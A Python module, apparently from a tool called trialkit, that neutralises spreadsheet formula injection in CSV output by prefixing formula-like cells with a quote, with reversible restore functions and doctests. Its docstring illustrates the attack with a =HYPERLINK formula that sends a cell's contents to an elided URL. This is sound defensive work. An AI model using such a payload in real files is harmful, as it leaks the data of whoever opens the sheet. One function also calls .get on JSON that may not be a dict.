"""Spreadsheet-safe CSV cells: no cell trialkit writes opens as a live formula.

A council analyst opens ``allocation.csv``, ``issues.csv`` or ``results/*.csv`` in Excel
or LibreOffice, which run a cell starting with ``=``, ``+``, ``-`` or ``@`` (and, in some
versions, tab or carriage return) as a formula: a unit id ``=HYPERLINK("http://…?leak="&A1)``
would leak the sheet. Following OWASP's CSV-injection guidance, such a cell is written with
a leading single quote, which spreadsheets show as text. Plain numbers (``-0.31``,
``+3``, ``-1e-05``) are not formulas and stay as they are.

The escape is reversible, so a file trialkit reads back gives the original text: a cell
that already starts with a quote gets one more, and :func:`restore` removes exactly one.
JSON outputs keep the original values; only CSV cells are escaped.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterable, Sequence
from pathlib import Path

import pandas as pd

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

#: What a neutralised cell starts with.
QUOTE = "'"

#: Name recorded in metadata for files whose cells were escaped by :func:`neutralise`.
ESCAPING = "owasp-leading-quote"

#: The record ``simulate`` writes beside its data CSVs: provenance, and which files hold
#: escaped cells, so that ``validate`` reads back the original values.
SIMULATED_RECORD = "simulated.json"

_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _is_number(cell: str) -> bool:
    return _NUMBER.fullmatch(cell) is not None


def neutralise(cell: str) -> str:
    """The cell as a spreadsheet shows it as text: a formula-like cell gets a leading ``'``.

    A cell that already starts with ``'`` gets one more, so :func:`restore` is exact.

    Examples
    --------
    >>> [neutralise(c) for c in ["=1+2", "@SUM(1)", "-2+3", "-0.31", "team-7", "'x"]]
    ["'=1+2", "'@SUM(1)", "'-2+3", '-0.31', 'team-7', "''x"]
    """
    if cell[:1] == QUOTE or (cell[:1] in FORMULA_STARTS and not _is_number(cell)):
        return QUOTE + cell
    return cell


def restore(cell: str) -> str:
    """The original text of a cell written by :func:`neutralise`.

    Examples
    --------
    >>> all(restore(neutralise(c)) == c for c in ["=1+2", "+SUM(1)", "-5", "'", "''a", ""])
    True
    """
    return cell[1:] if cell[:1] == QUOTE else cell


def neutralise_rows(rows: Iterable[Sequence[str]]) -> list[list[str]]:
    """Every cell of ``rows`` neutralised."""
    return [[neutralise(cell) for cell in row] for row in rows]


def neutralise_csv(text: str) -> str:
    """CSV text (``\\n`` line ends, minimal quoting) with every cell neutralised.

    Re-writing with the same dialect keeps untouched cells byte for byte, so the result
    is as reproducible as its input.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerows(neutralise_rows(csv.reader(io.StringIO(text, newline=""))))
    return buffer.getvalue()


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) are neutralised.

    Numeric columns are left alone: a negative number stays a number.
    """
    out = frame.copy()
    for column in out.columns:
        values = out[column]
        if pd.api.types.is_object_dtype(values) or pd.api.types.is_string_dtype(values):
            out[column] = values.map(lambda v: neutralise(v) if isinstance(v, str) else v)
    out.columns = [neutralise(c) if isinstance(c, str) else c for c in out.columns]
    return out


def frame_csv(frame: pd.DataFrame) -> str:
    """``frame`` as spreadsheet-safe CSV text, without its index (``\\n`` line ends)."""
    return neutralise_frame(frame).to_csv(index=False, lineterminator="\n")


def restore_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` read from a CSV written by :func:`frame_csv`: the original text of every cell
    and column name (in place; the frame is returned).

    Examples
    --------
    >>> text = frame_csv(pd.DataFrame({"id": ["=1+2", "'a", "b"], "x": [-1, 2, 3]}))
    >>> restore_frame(pd.read_csv(io.StringIO(text))).to_dict("list")
    {'id': ['=1+2', "'a", 'b'], 'x': [-1, 2, 3]}
    """
    for position in range(frame.shape[1]):
        values = frame.iloc[:, position]
        if pd.api.types.is_object_dtype(values) or pd.api.types.is_string_dtype(values):
            quoted = values.str.startswith(QUOTE, na=False).to_numpy(dtype=bool)
            if quoted.any():
                frame.isetitem(position, values.mask(quoted, values.str[1:]).array)
    frame.columns = [restore(c) if isinstance(c, str) else c for c in frame.columns]
    return frame


def recorded_files(record: Path) -> dict[str, object]:
    """What a :data:`SIMULATED_RECORD` says of each file it lists (name: entry); nothing
    when the record is missing, unreadable or not one of escaped files."""
    try:
        if record.stat().st_size > 1 << 20:
            return {}
        data = json.loads(record.read_text(encoding="utf-8"))
    except (OSError, ValueError):
        return {}
    files = data.get("files") if isinstance(data, dict) else None
    if data.get("escaping") != ESCAPING or not isinstance(files, dict):
        return {}
    return {str(name): entry for name, entry in files.items()}


def escaped_by_trialkit(path: Path) -> bool:
    """Whether the record beside ``path`` (:data:`SIMULATED_RECORD`) says trialkit wrote it
    with escaped cells; a missing or unreadable record says no."""
    return path.name in recorded_files(path.parent / SIMULATED_RECORD)
